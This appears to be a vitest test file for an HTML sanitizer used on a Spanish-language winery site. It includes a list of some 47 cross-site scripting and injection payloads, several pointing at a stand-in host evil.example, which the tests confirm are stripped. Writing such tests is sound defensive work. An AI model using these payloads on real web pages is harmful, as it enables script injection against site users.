import { expect, it } from 'vitest';
import { richTextTags } from '../../../shared/rules/rich-text.js';
import { cleanPlainOrRichText, cleanRichText, plainRichText } from './rich-text.js';

/** Text with all allowed elements, exactly as it is stored. */
const everything = [
  '<h2>Visitas</h2><h3>Horario</h3><h4>Agosto</h4><p>De <strong>lunes</strong> a <em>viernes</em>, <u>no</u> <s>sábados</s>.<br />Ven.</p>',
  '<ul><li><p>Uno</p><ul><li><p>Dentro</p></li></ul></li></ul><ol start="3"><li><p>Tres</p></li></ol><hr />',
  '<blockquote><p>«El mejor»</p></blockquote><p><code>A1</code> 3 &lt; 4 &amp; 5 &gt; 4</p>',
  '<p><a href="https://valdehierro.example/visitas?a=1&amp;b=2">Reserva</a> o <a href="mailto:hola@valdehierro.example">escribe</a></p>',
  '<img src="/files/h3Kq8Z/pages/6a2f.png" alt="La bodega &quot;vieja&quot;" width="800" height="600" />',
  '<table><tbody><tr><th colspan="2"><p>Vino</p></th></tr><tr><td><p>Tinto</p></td><td rowspan="2"><p>12 €</p></td></tr></tbody></table>',
].join('');

it('keeps all allowed elements unchanged', () => {
  expect(cleanRichText(everything)).toBe(everything);
});

/** Attempts to inject more than text. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a/b.png" alt="&quot; onerror=&quot;alert(1)" onerror=alert(1) srcset="https://evil.example/a 1x">',
  '<img src="https://evil.example/pixel.png" alt="pixel">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form action="https://evil.example"><form><input name=a><button formaction="javascript:alert(1)">Go</button></form></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="mailto:a@b.example%0abcc:c@d.example">x</a>',
  '<a href="mailto:a%0D%0Abcc:c@d.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="https://a.example/" target="_blank" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))" class="x" id="root">x</p>',
  '<style>@import url(https://evil.example/a.css); body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  '<table background="https://evil.example/a.png"><td background="https://evil.example/a.png">x</td></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?>',
  '</article></main></body></html><script>alert(1)</script>',
  '<p/onclick=alert(1)>x',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<td colspan="1000000000" rowspan="javascript:1">x</td>',
  '<ol start="-5 onload=alert(1)"><li>x</li></ol>',
  '<p>\u0000<\u0000script>alert(1)</script>',
  '<unknown-element onfoo=1><b>x</b></unknown-element>',
];

/** All tags of a cleaned text with their attributes. */
const tagsIn = (html: string) =>
  [...html.matchAll(/<\/?([^\s>/]*)([^>]*)>/g)].map(([, name = '', rest = '']) => ({ name, rest }));

it.each(hostile)('keeps only the listed tags and attributes of %s', (html) => {
  const cleaned = cleanRichText(`<p>antes</p>${html}<p>después</p>`);
  expect(cleaned).toContain('antes');
  for (const { name, rest } of tagsIn(cleaned)) {
    expect(Object.keys(richTextTags)).toContain(name);
    const names = [...rest.matchAll(/([\w:-]+)="[^"]*"/g)].map(([, attribute]) => attribute);
    expect(rest.replace(/ [\w:-]+="[^"]*"/g, '').replace(/ ?\/$/, '')).toBe('');
    expect(richTextTags[name as keyof typeof richTextTags]).toEqual(expect.arrayContaining(names));
  }
  expect(cleaned).not.toMatch(/(href|src)="(?!https:\/\/a\.example\/"|\/files\/a\/b\.png")/);
  // Every '<' belongs to a tag.
  expect(cleaned.replace(/<\/?[a-z0-9]+( [a-z]+="[^"<>]*")*( \/)?>/g, '')).not.toMatch(/[<>]/);
  // Cleaning a clean text changes nothing. The space prevents a cached answer.
  expect(cleanRichText(`${cleaned} `)).toBe(cleaned);
});

it('replaces elements with allowed ones, and keeps the words of removed elements', () => {
  expect(
    cleanRichText(
      '<h1>Uno</h1><div>dos</div><font color=red>tres</font> <b>cuatro</b><i>cinco</i><h6>seis</h6>',
    ),
  ).toBe('<h2>Uno</h2><p>dos</p>tres <strong>cuatro</strong><em>cinco</em><h4>seis</h4>');
});

it.each(['<blockquote>', '<ul><li>', '<b>', '<table><tr>', '<font>', '<svg>', '<div>'])(
  'keeps only the words of 10,000 nested %s, and flattens 490',
  (tag) => {
    // Parsing this many as HTML would take far too long.
    for (const many of [10_000, 100_000])
      expect(cleanRichText(`${tag.repeat(many)}fondo`).length).toBeLessThan(1_000);
    const cleaned = cleanRichText(`${tag.repeat(490)}fondo`);
    const depth = [...cleaned.matchAll(/<(\/?)(\w+)[^>]*?>/g)].reduce(
      ({ now, most }, [, end]) => ({ now: now + (end ? -1 : 1), most: Math.max(most, now + 1) }),
      { now: 0, most: 0 },
    );
    expect(depth.now).toBe(0);
    expect(depth.most).toBeLessThan(30);
  },
);

it('keeps a few stray < signs and closing tags, and only the words of a text with too many', () => {
  expect(cleanRichText(`<p>${'< '.repeat(500)}</p>`)).toBe(`<p>${'&lt; '.repeat(500)}</p>`);
  expect(cleanRichText(`${'<'.repeat(400_000)} fondo`)).toBe('fondo');
  // Each closing tag without an opening one becomes an element.
  expect(cleanRichText(`<p>uno</p>${'</p>'.repeat(3)}dos`)).toBe(
    '<p>uno</p><p></p><p></p><p></p>dos',
  );
  expect(cleanRichText(`<p>uno</p>${'</p>'.repeat(100_000)}dos`)).toMatch(/^uno\s+dos$/);
});

it('keeps plain text unchanged, and cleans text with markup', () => {
  for (const plain of ['Garnacha & Syrah', '5 < 6 > 4', 'uno\n\ndos  <3', '&lt;script&gt;', ''])
    expect(cleanPlainOrRichText(plain)).toBe(plain);
  expect(cleanPlainOrRichText('5 < 6 & <i>7</i><script>x</script>')).toBe(
    '5 &lt; 6 &amp; <em>7</em>',
  );
  expect(cleanPlainOrRichText('5 < 6 & 7<script>x</script>')).toBe('5 < 6 & 7');
  for (const html of [
    ...hostile,
    '&lt;script&gt;alert(1)&lt;/script&gt;<script>x</script>',
    '<!-- a --><script>x',
  ])
    for (const { name } of tagsIn(cleanPlainOrRichText(html)))
      expect(Object.keys(richTextTags)).toContain(name);
});

it('returns the words without markup', () => {
  expect(
    plainRichText(
      '<h2>Uno</h2><p>dos &amp; <strong>tres</strong><br />cuatro</p><ul><li><p>5 &lt; 6</p></li></ul>',
    ),
  ).toBe('Uno dos & tres cuatro 5 < 6');
});
